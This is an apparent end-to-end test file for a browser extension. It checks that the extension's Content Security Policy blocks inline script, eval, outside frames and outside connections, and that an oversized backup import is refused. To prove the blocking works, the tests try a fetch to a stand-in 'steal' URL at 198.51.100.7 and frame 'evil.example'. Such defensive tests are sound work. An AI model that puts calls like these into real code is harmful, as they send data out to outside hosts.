/**
 * The extension pages' Content Security Policy, in force in Chromium (the manifest test reads it
 * from both built manifests): an inline script does not run, eval throws, connections outside
 * what the team server permission could cover are blocked (in the pages and in the background),
 * and a 50 MB file chosen for import is refused in the page before it is read.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ElementHandle, Page } from 'puppeteer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeInstallTab, launchWithExtension, type ExtensionBrowser } from './support/launch-browser';
import { sendFromPage } from './support/extension-pages';
import { STORE_NAMES } from '../../utils/db/schema';

let eb: ExtensionBrowser;
let dir: string;
beforeAll(async () => {
  eb = await launchWithExtension();
  await eb.serviceWorker();
  await closeInstallTab(eb);
  dir = mkdtempSync(join(tmpdir(), 'caseline-csp-'));
});
afterAll(async () => {
  await eb?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** An extension page as an agent opens it: its CSP in force (no DevTools bypass). */
async function openStrict(path: string): Promise<Page> {
  const page = await eb.browser.newPage();
  // Listening from the first moment: a page that needed anything the policy refuses shows it here.
  await page.evaluateOnNewDocument(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  await page.goto(eb.extensionUrl(path));
  await page.bringToFront();
  return page;
}

/** Every record of the stores a backup holds, read by the page from the extension's database. */
function storedRecords(page: Page): Promise<string> {
  return page.evaluate(
    (names: string[]) =>
      new Promise<string>((resolve, reject) => {
        const request = indexedDB.open('caseline');
        request.onerror = () => reject(request.error);
        request.onsuccess = () => {
          const db = request.result;
          const tx = db.transaction(names, 'readonly');
          const out: Record<string, unknown[]> = {};
          for (const name of names) {
            const all = tx.objectStore(name).getAll();
            all.onsuccess = () => (out[name] = all.result);
          }
          tx.oncomplete = () => {
            db.close();
            resolve(JSON.stringify(out));
          };
          tx.onerror = () => reject(tx.error);
        };
      }),
    [...STORE_NAMES],
  );
}

describe('extension pages', () => {
  for (const path of ['options.html', 'dashboard.html', 'onboarding.html', 'practice.html']) {
    it(`${path}: no inline script, no eval, no frame, no connection outside the allowed hosts`, async () => {
      const page = await openStrict(path);
      // The page works under its policy: it renders, and nothing it does itself is refused.
      await page.waitForFunction(() => (document.querySelector('#app')?.children.length ?? 0) > 0 && (document.body.textContent ?? '').length > 40, { timeout: 20_000 });
      await new Promise((r) => setTimeout(r, 500));
      expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);
      const result = await page.evaluate(async () => {
        const w = window as unknown as { __inline?: number; __violations: string[] };
        const script = document.createElement('script');
        script.textContent = 'window.__inline = 1';
        document.head.append(script);
        // Run from a task of the page's own (DevTools evaluation is exempt from the eval check).
        const { evalResult, fnResult } = await new Promise<{ evalResult: string; fnResult: string }>((resolve) =>
          setTimeout(() => {
            const attempt = (f: () => unknown) => {
              try {
                f();
                return 'ran';
              } catch (e) {
                return (e as Error).name;
              }
            };
            resolve({ evalResult: attempt(() => (0, eval)('1 + 1')), fnResult: attempt(() => new Function('return 1')()) });
          }, 0),
        );
        let fetchResult = 'ran';
        try {
          await fetch('http://198.51.100.7/steal');
        } catch (e) {
          fetchResult = (e as Error).name;
        }
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
        await new Promise((r) => setTimeout(r, 300));
        return { inline: w.__inline, evalResult, fnResult, fetchResult, violations: w.__violations };
      });
      expect(result.inline).toBeUndefined();
      expect(result.evalResult).toBe('EvalError');
      expect(result.fnResult).toBe('EvalError');
      expect(result.fetchResult).toBe('TypeError');
      const blocked = result.violations.join('\n');
      expect(blocked).toMatch(/^script-src-elem inline$/m);
      expect(blocked).toMatch(/^script-src eval$/m);
      expect(blocked).toMatch(/^connect-src http:\/\/198\.51\.100\.7\/steal$/m);
      expect(blocked).toMatch(/^frame-src https:\/\/evil\.example\/?$/m);
      await page.close();
    });
  }

  it('the background is held to the same policy: no eval, no plain-http connection to other hosts', async () => {
    const worker = await eb.serviceWorker();
    const result = await worker.evaluate(async () => {
      // From a task of the worker's own (DevTools evaluation is exempt from the eval check).
      const evalResult = await new Promise<string>((resolve) =>
        setTimeout(() => {
          try {
            (0, eval)('1 + 1');
            resolve('ran');
          } catch (e) {
            resolve((e as Error).name);
          }
        }, 0),
      );
      let fetchResult = 'ran';
      try {
        await fetch('http://198.51.100.7/steal');
      } catch (e) {
        fetchResult = `${(e as Error).name}`;
      }
      return { evalResult, fetchResult };
    });
    expect(result.evalResult).toBe('EvalError');
    expect(result.fetchResult).toBe('TypeError');
  });

  it('a 50 MB backup chosen for import is refused in the page, unread; nothing reaches the background', async () => {
    const file = join(dir, 'huge-backup.json');
    writeFileSync(file, Buffer.alloc(50 * 1024 * 1024, 0x20));
    const page = await openStrict('options.html');
    expect((await sendFromPage(page, 'databaseReady', {})).ok).toBe(true);
    const before = await storedRecords(page);
    expect(JSON.parse(before).settings.length).toBeGreaterThan(0);
    const input = (await page.waitForSelector('#field-data-importBackup')) as ElementHandle<HTMLInputElement> | null;
    const heapBefore = (await page.metrics()).JSHeapUsedSize ?? 0;
    await input!.uploadFile(file);
    await page.waitForFunction(() => /The file is 50 MiB; Caseline reads at most 40 MiB, so nothing was read or changed\./.test(document.body.textContent ?? ''), { timeout: 10_000 });
    const heapAfter = (await page.metrics()).JSHeapUsedSize ?? 0;
    // The file was never read into the page (reading it would add at least its size).
    expect(heapAfter - heapBefore).toBeLessThan(10 * 1024 * 1024);
    expect(await storedRecords(page)).toBe(before);
    await page.close();
  });
});
